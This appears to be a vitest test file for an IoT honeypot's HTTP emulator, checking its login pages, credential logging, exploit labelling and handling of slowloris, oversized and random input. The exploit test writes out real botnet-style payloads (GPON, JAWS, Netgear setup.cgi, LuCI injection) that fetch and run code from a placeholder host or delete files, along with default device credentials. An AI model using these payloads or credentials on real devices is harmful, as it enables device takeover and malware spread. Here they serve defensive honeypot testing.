/**
 * The http emulator driven by curl (login pages, credential posts, HTTP Basic, exploit paths) and by raw
 * sockets for the hostile cases (slowloris, oversized headers and bodies, random bytes). Loopback only,
 * ephemeral ports.
 */
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import net from "node:net";
import { promisify } from "node:util";
import { afterEach, describe, expect, it } from "vitest";
import { XMLValidator } from "fast-xml-parser";
import { httpConfigSchema, httpPersona } from "../../../src/honeypot/emulators/http/config.js";
import { upnpDevice } from "../../../src/honeypot/emulators/ssdp/persona.js";
import { listPersonas, loadPersona } from "../../../src/honeypot/sensor/personas.js";
import { emulator } from "../../../src/honeypot/emulators/http/index.js";
import type { RunningEmulator } from "../../../src/honeypot/emulators/types.js";
import type { Persona } from "../../../src/honeypot/persona.js";
import { stable, testContext, testPersona, type TestContext, type TestLimitsOptions } from "./context.js";

const run = promisify(execFile);
let running: RunningEmulator | undefined;
afterEach(async () => {
  await running?.close();
  running = undefined;
});

async function startHttp(opts: { persona?: Persona; config?: Record<string, unknown>; limits?: TestLimitsOptions } = {}): Promise<{ ctx: TestContext; port: number; url: string }> {
  const ctx = testContext({ persona: opts.persona, limits: opts.limits });
  running = await emulator.start(ctx, httpConfigSchema.parse({ ports: [0], ...opts.config }));
  const port = running.ports[0]!;
  return { ctx, port, url: `http://127.0.0.1:${port}` };
}

async function curl(...args: string[]): Promise<{ status: number; headers: Record<string, string>; body: string }> {
  const { stdout } = await run("curl", ["-s", "-i", "-A", "Mozilla/5.0 bot", ...args]);
  const split = stdout.indexOf("\r\n\r\n");
  const head = stdout.slice(0, split).split("\r\n");
  const headers: Record<string, string> = {};
  for (const l of head.slice(1)) headers[l.slice(0, l.indexOf(":")).toLowerCase()] = l.slice(l.indexOf(":") + 1).trim();
  return { status: Number(head[0]!.split(" ")[1]), headers, body: stdout.slice(split + 4) };
}

const dvr: Persona = { ...testPersona, name: "test-dvr", vendor: "Xiongmai", model: "AHB7804R", device_type: "dvr", http: { server: "uc-httpd 1.0.0", basic_auth: false } };
const basicCam: Persona = { ...testPersona, name: "test-basic", http: { server: "Boa/0.94.14rc21", basic_auth: true, realm: "IPCamera" } };

describe("http emulator with curl", () => {
  it("shows the persona's login page with its Server header and records the request exactly", async () => {
    const { ctx, port, url } = await startHttp();
    const r = await curl(`${url}/`);
    expect(r.status).toBe(200);
    expect(r.headers.server).toBe("App-webs/");
    expect(r.body).toContain("<title>Hikvision DS-2CD2042WD-I</title>");
    expect(r.body).toContain('name="password"');
    await ctx.waitForEvents("session.closed");
    const base = { sensor: "test-sensor", protocol: "http", transport: "tcp", src_ip: "127.0.0.1", dst_ip: "127.0.0.1", dst_port: port, persona: "test-camera" };
    expect(ctx.events.map(stable)).toEqual([
      { ...base, eventid: "session.connect" },
      { ...base, eventid: "http.request", method: "GET", path: "/", url: "/", user_agent: "Mozilla/5.0 bot", headers: { host: `127.0.0.1:${port}`, accept: "*/*" }, status: 200 },
      { ...base, eventid: "session.closed", message: "closed by peer" },
    ]);
  });

  it("records form, JSON, query-string and HTTP Basic credentials as http.login.attempt", async () => {
    const { ctx, url } = await startHttp({ persona: dvr });
    const form = await curl("-d", "username=admin&password=xc3511&stream=0", `${url}/login.cgi`);
    expect(form.headers.server).toBe("uc-httpd 1.0.0");
    expect(form.body).toContain("Invalid user name or password.");
    await curl("-H", "Content-Type: application/json", "-d", '{"user":"root","pwd":"7ujMko0admin"}', `${url}/api/login`);
    await curl(`${url}/cgi-bin/login?usr=support&pass=support`);
    await curl("-u", "root:vizxv", `${url}/`);
    await ctx.waitForEvents("session.closed", 4);
    expect(ctx.of("http.login.attempt").map((e) => [e.message, e.username, e.password, e.method, e.path])).toEqual([
      ["form", "admin", "xc3511", "POST", "/login.cgi"],
      ["json", "root", "7ujMko0admin", "POST", "/api/login"],
      ["query", "support", "support", "GET", "/cgi-bin/login"],
      ["basic", "root", "vizxv", "GET", "/"],
    ]);
    const post = ctx.of("http.request")[0]!;
    expect([post.payload_size, Buffer.from(post.payload_b64!, "base64").toString()]).toEqual([39, "username=admin&password=xc3511&stream=0"]);
  });

  it("asks for HTTP Basic on a basic_auth persona and keeps refusing", async () => {
    const { ctx, url } = await startHttp({ persona: basicCam });
    const first = await curl(`${url}/`);
    expect([first.status, first.headers["www-authenticate"], first.headers.server]).toEqual([401, 'Basic realm="IPCamera"', "Boa/0.94.14rc21"]);
    const second = await curl("-u", "admin:12345", `${url}/`);
    expect(second.status).toBe(401);
    await ctx.waitForEvents("http.login.attempt");
    expect(ctx.of("http.request").map((e) => e.status)).toEqual([401, 401]);
  });

  it("names exploit attempts, answers them plausibly, and executes nothing", async () => {
    const { ctx, url } = await startHttp();
    const gpon = await curl("-d", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/m`;sh", `${url}/GponForm/diag_Form?images/`);
    expect(gpon.status).toBe(200);
    await curl(`${url}/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws`);
    await curl("-d", "username=admin&psd=Feefifofum", `${url}/boaform/admin/formLogin`);
    const hnap = await curl("-H", 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"', `${url}/HNAP1/`);
    expect(hnap.body).toContain("<ModelName>DS-2CD2042WD-I</ModelName>");
    await curl(`${url}/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1`);
    await curl(`${url}/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)`);
    await ctx.waitForEvents("session.closed", 6);
    expect(ctx.of("http.request").map((e) => [e.path, e.message, e.status])).toEqual([
      ["/GponForm/diag_Form", "exploit:gpon_diag_form", 200],
      ["/shell", "exploit:jaws_shell", 200],
      ["/boaform/admin/formLogin", "exploit:boaform", 200],
      ["/HNAP1/", "exploit:hnap", 200],
      ["/setup.cgi", "exploit:netgear_setup_cgi", 200],
      ["/cgi-bin/luci/;stok=/locale", "exploit:luci", 200],
    ]);
    expect(ctx.of("http.request")[0]!.query).toBe("images/");
    expect(ctx.of("http.request")[3]!.headers!.soapaction).toBe('"http://purenetworks.com/HNAP1/GetDeviceSettings"');
    expect(ctx.of("http.login.attempt").map((e) => [e.username, e.password])).toEqual([["admin", "Feefifofum"]]);
  });

  it("listens on every configured port", async () => {
    const ctx = testContext();
    running = await emulator.start(ctx, httpConfigSchema.parse({ ports: [0, 0] }));
    const [a, b] = running.ports;
    expect(a).not.toBe(b);
    for (const p of [a, b]) expect((await curl(`http://127.0.0.1:${p}/nothing`)).status).toBe(404);
    await ctx.waitForEvents("session.closed", 2);
    expect(ctx.of("http.request").map((e) => e.dst_port)).toEqual([a, b]);
  });
});

describe("http emulator under hostile input", () => {
  it("closes a slowloris connection at the headers timeout with a 408 event, and still serves others", async () => {
    const { ctx, port, url } = await startHttp({ config: { headers_timeout_ms: 400 } });
    const sock = await connect(port);
    sock.write("GET / HTTP/1.1\r\nHost: x\r\n");
    let sent = 0;
    const drip = setInterval(() => {
      if (!sock.destroyed) sock.write(`X-${sent++}: a\r\n`);
    }, 50);
    await closed(sock);
    clearInterval(drip);
    await ctx.waitForEvents("session.closed");
    expect(ctx.events.map((e) => [e.eventid, e.status, e.reason])).toEqual([
      ["session.connect", undefined, undefined],
      ["http.request", 408, "malformed request: ERR_HTTP_REQUEST_TIMEOUT"],
      ["session.closed", undefined, undefined],
    ]);
    expect(ctx.of("session.closed")[0]!.message).toBe("request timeout");
    expect((await curl(`${url}/`)).status).toBe(200);
  });

  it("answers 413 to a body over max_body_bytes and keeps a bounded sample", async () => {
    const { ctx, url } = await startHttp({ config: { max_body_bytes: 100_000 } });
    const big = randomBytes(200_000).toString("hex"); // 400 kB
    const res = await runWithInput("curl", ["-s", "-o", "/dev/null", "-w", "%{http_code}", "--data-binary", "@-", `${url}/upload.cgi`], big);
    expect(res).toBe("413");
    await ctx.waitForEvents("session.closed");
    const e = ctx.of("http.request").at(-1)!;
    expect(e.status).toBe(413);
    expect(e.reason).toBe("body larger than 100000 bytes");
    expect(Buffer.from(e.payload_b64!, "base64").length).toBe(49_152);
    expect(e.payload_size!).toBeGreaterThan(100_000);
  });

  it("answers 431 to an oversized header block and 400 to random bytes, recording both", async () => {
    const { ctx, port } = await startHttp({ config: { max_header_bytes: 2048 } });
    const a = await connect(port);
    a.write(`GET / HTTP/1.1\r\nHost: x\r\nCookie: ${"A".repeat(10_000)}\r\n\r\n`);
    const replyA = await readAll(a);
    expect(replyA.split("\r\n")[0]).toBe("HTTP/1.1 431 Request Header Fields Too Large");
    const b = await connect(port);
    const junk = Buffer.concat([Buffer.from([0x16, 0x03, 0x01]), randomBytes(300)]);
    b.write(junk);
    const replyB = await readAll(b);
    expect(replyB.split("\r\n")[0]).toBe("HTTP/1.1 400 Bad Request");
    await ctx.waitForEvents("session.closed", 2);
    expect(ctx.of("http.request").map((e) => [e.status, e.reason])).toEqual([
      [431, "malformed request: HPE_HEADER_OVERFLOW"],
      [400, expect.stringMatching(/^malformed request: HPE_/)],
    ]);
    expect(ctx.limits.stats().sessionsOpen).toBe(0);
  });
});

function connect(port: number): Promise<net.Socket> {
  return new Promise((resolve, reject) => {
    const s = net.connect(port, "127.0.0.1", () => resolve(s));
    s.once("error", reject);
  });
}

function closed(s: net.Socket): Promise<void> {
  return new Promise((r) => (s.closed ? r() : s.once("close", () => r())));
}

async function readAll(s: net.Socket): Promise<string> {
  const chunks: Buffer[] = [];
  s.on("data", (c: Buffer) => chunks.push(c));
  s.on("error", () => undefined);
  await closed(s);
  return Buffer.concat(chunks).toString("latin1");
}

function runWithInput(cmd: string, args: string[], input: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = execFile(cmd, args, (err, stdout) => (err && !stdout ? reject(err) : resolve(stdout)));
    child.stdin!.on("error", () => undefined);
    child.stdin!.end(input);
  });
}

describe("http emulator with every shipped persona", () => {
  for (const name of listPersonas()) {
    it(`${name}: / shows the persona's login (page or Basic realm) with its Server header; its description is valid`, async () => {
      const persona = loadPersona(name);
      const p = httpPersona(persona);
      const { url } = await startHttp({ persona });
      const r = await curl(`${url}/`);
      expect(r.headers.server).toBe(p.server);
      if (p.basicAuth) expect([r.status, r.headers["www-authenticate"]]).toEqual([401, `Basic realm="${p.realm}"`]);
      else expect([r.status, r.body.includes(`<form method="post" action="${p.loginPath}">`)]).toEqual([200, true]);
      for (const extra of p.pages) expect((await curl(`${url}${extra.path}`)).status).toBe(extra.status);
      const d = await curl(`${url}${upnpDevice(persona).descriptionPath}`);
      expect(XMLValidator.validate(d.body)).toBe(true);
      expect(d.body).toContain(`<UDN>${upnpDevice(persona).udn}</UDN>`);
    });
  }
});
